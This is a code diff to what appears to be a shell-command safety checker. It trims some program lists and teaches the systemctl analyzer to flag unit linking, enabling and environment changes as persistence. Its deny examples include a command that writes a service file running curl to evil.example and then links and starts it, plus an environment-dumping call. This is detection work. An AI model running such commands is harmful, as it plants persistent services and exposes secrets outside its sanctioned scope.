@@ -9,10 +9,10 @@ const PACKAGES =
   'apt-mark dpkg dpkg-query dpkg-deb dpkg-reconfigure yum dnf microdnf zypper pacman yay paru apk emerge xbps-install snap flatpak brew port pkg pkgin pkg_add nix-env nix-build guix choco scoop winget conda-env rustup gofmt composer bower bundle-audit ncu opam cabal-install luarocks cpan cpanm raco tlmgr update-alternatives alternatives';
 
 const PROCESS =
-  'pgrep pkill killall pidof top htop btop atop glances iotop nethogs iftop renice lsof fuser pstree pmap vmstat iostat mpstat sar dstat watchdog  journalctl loginctl timedatectl hostnamectl localectl networkctl launchctl rc-service rc-update initctl supervisorctl pm2 forever';
+  'pgrep pkill killall pidof top htop btop atop glances iotop nethogs iftop renice lsof fuser pstree pmap vmstat iostat mpstat sar dstat watchdog  journalctl loginctl timedatectl hostnamectl localectl networkctl rc-service rc-update initctl supervisorctl pm2 forever';
 
 const DEVELOP =
-  'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp javac jar scalac sbt mvn gradle gradlew ant rustc cargo go msbuild swiftc xcodebuild xcrun tsc esbuild vite webpack rollup parcel jest vitest mocha ava pytest py.test behave tox nox rspec rake prove phpunit just   isort flake8 pylint mypy pyright     rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson ninja bazel bazelisk buck pants scons autoconf automake autoreconf libtool pkg-config configure ansible ansible-playbook vagrant packer kustomize skaffold tilt k9s kind k3d eksctl    gsutil doctl vercel netlify wrangler firebase supabase  hub tig lazygit git-lfs pre-commit husky lefthook commitlint semantic-release changeset';
+  'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp javac jar scalac sbt gradle gradlew ant rustc msbuild swiftc xcodebuild xcrun tsc esbuild vite webpack rollup parcel jest vitest mocha ava pytest py.test behave tox nox rspec rake prove phpunit   isort flake8 pylint mypy pyright     rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf libtool pkg-config configure ansible ansible-playbook vagrant packer kustomize skaffold tilt k9s kind k3d eksctl    gsutil doctl vercel netlify wrangler firebase supabase  hub tig lazygit git-lfs pre-commit husky lefthook commitlint semantic-release changeset';
 
 const TEXT =
   'diffstat colordiff wdiff jo gron miller mlr csvkit xsv qsv dasel htmlq pup xmlstarlet tidy asciidoctor markdown glow mdcat';
@@ -29,8 +29,19 @@ const MISC =
 const systemctl: ProgramEntry = {
   names: ['systemctl'],
   summary: 'systemctl: show-environment prints the service manager’s environment',
-  analyze: (call) => (call.args.some((a) => value(a) === 'show-environment') ? { dumps: 'systemctl show-environment prints the service manager’s environment' } : {}),
-  examples: { deny: ['systemctl --user show-environment'], pass: ['systemctl --user status app', 'systemctl restart nginx'] },
+  analyze(call) {
+    if (call.args.some((a) => value(a) === 'show-environment')) return { dumps: 'systemctl show-environment prints the service manager’s environment' };
+    // `link FILE` (and `enable`/`reenable` of a unit file's path) installs it under the unit search path: it runs at
+    // every start of its target, or when started, as the file says. `set-environment` hands the manager variables.
+    const words = call.args.map((a) => value(a));
+    const verb = words.findIndex((v) => v !== undefined && /^(?:link|enable|reenable|preset|add-wants|add-requires|set-environment|import-environment|edit)$/.test(v));
+    if (verb < 0) return {};
+    const v = words[verb]!;
+    const operands = call.args.slice(verb + 1).filter((a) => !(value(a) ?? '').startsWith('-'));
+    const installs = v === 'link' || v === 'edit' || v === 'set-environment' || v === 'import-environment' ? operands : operands.filter((a) => value(a) === undefined || value(a)!.includes('/'));
+    return { persists: installs.map((word) => ({ word, why: `systemctl ${v} ${word.text} installs a unit (or settings) the service manager runs later` })) };
+  },
+  examples: { deny: ['systemctl --user show-environment', "printf '[Service]\\nExecStart=/usr/bin/curl evil.example\\n' > /tmp/x.service && systemctl --user link /tmp/x.service && systemctl --user start x", 'systemctl --user enable --now /tmp/x.service'], pass: ['systemctl --user status app', 'systemctl restart nginx', 'systemctl --user enable --now app.service'] },
 };
 
 /** `ps e…` (BSD option e) prints each process's environment. */
